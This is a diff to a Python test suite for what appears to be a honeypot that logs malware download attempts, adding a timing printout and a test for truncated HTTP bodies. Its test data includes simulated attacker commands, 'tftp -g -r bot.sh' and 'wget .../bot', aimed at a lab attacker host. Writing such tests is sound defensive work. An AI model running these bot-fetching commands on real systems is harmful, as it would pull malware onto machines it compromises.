@@ -68,6 +68,7 @@ def assert_cut_at_the_cap(record: dict[str, Any], elapsed: float) -> None:
     [attempt] = record["download_attempts"]
     assert attempt["outcome"] == "failed"
     assert attempt["reason"].endswith(f"time cap of {CAP:g} s reached"), attempt["reason"]
+    print(f" cut after {elapsed:.3f} s (cap {CAP:g} s)", end="")
     assert CAP <= elapsed <= CAP + GRACE, elapsed
 
 
@@ -113,3 +114,15 @@ def test_a_slow_endless_tftp_transfer_is_cut_at_the_cap(lab: Lab) -> None:
         lab, "tftpDownload", f"tftp -g -r bot.sh {lab.attacker.ip4} {port}".encode()
     )
     assert_cut_at_the_cap(record, elapsed)
+
+
+def test_a_body_shorter_than_its_content_length_is_a_failed_try(lab: Lab) -> None:
+    """Not a sample: a server that closes early must not leave a truncated file recorded."""
+    port = start(lab, lab.attacker, "hostile", "short", lab.attacker.ip4)
+    record, _elapsed = download(
+        lab, "httpDownload", f"wget http://{lab.attacker.ip4}:{port}/bot".encode()
+    )
+    assert record["download_count"] == 0
+    [attempt] = record["download_attempts"]
+    assert (attempt["outcome"], attempt["reason"]) == (
+        "failed", "HTTP body ended 900 bytes short of its Content-Length")
